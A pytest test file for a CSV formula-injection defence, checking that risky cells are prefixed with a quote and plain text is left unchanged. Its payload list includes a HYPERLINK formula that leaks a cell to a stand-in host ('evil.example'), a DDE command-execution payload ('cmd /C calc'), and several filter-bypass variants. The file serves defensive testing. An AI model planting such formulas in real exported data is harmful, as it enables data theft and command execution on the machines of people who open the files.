"""CSV injection: every cell a spreadsheet could run as a formula is neutralised (OWASP), and nothing else."""

import csv
import io

import pytest

from assessments.csv_safety import csv_cell, neutralise

FULL_WIDTH_EQUALS, FULL_WIDTH_PLUS, FULL_WIDTH_MINUS, FULL_WIDTH_AT = "\uff1d", "\uff0b", "\uff0d", "\uff20"

FORMULAS = [
    # OWASP's list: =, +, -, @, tab, carriage return at the start.
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    # What the attack on the running app found unneutralised.
    " =1+1",
    "\n=1+1",
    f"{FULL_WIDTH_EQUALS}1+1",
    ";=1+1",
    '"=1+1',
    # More of the same family.
    "'=1+1",
    ",=1+1",
    "  \t @x",
    "\u3000=1+1",  # ideographic space
    f"{FULL_WIDTH_PLUS}1",
    f"{FULL_WIDTH_MINUS}1",
    f"{FULL_WIDTH_AT}x",
    "\t",  # a lone tab
    "\r",
    "\nplain text after a line feed",
]

PLAIN = [
    "Northwind",
    "Smith, Jones & \"Partners\"",
    "Zürich Dienstleistungen — Ærø",
    "Acme-Beta",  # a sign inside the text is harmless
    "1+1=2",
    "a@example.com",
    "",
    " ",
    "'quoted'",
    "; only separators ;",
]


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_cell_a_spreadsheet_could_run_is_prefixed_with_a_quote(payload):
    assert neutralise(payload) == "'" + payload
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", PLAIN)
def test_ordinary_text_is_left_alone(text):
    assert neutralise(text) == text


def test_numbers_booleans_and_blanks_are_written_as_values_not_text():
    assert [csv_cell(v) for v in (-4.5, 0, 12, None, True, False)] == ["-4.5", "0", "12", "", "yes", "no"]


def test_a_neutralised_cell_survives_the_csv_round_trip_unchanged_apart_from_its_quote():
    buffer = io.StringIO()
    csv.writer(buffer).writerow([csv_cell(p) for p in FORMULAS])
    (row,) = csv.reader(io.StringIO(buffer.getvalue(), newline=""))
    assert row == ["'" + p for p in FORMULAS]
    assert all(cell[:1] not in "=+-@\t\r\n" for cell in row)
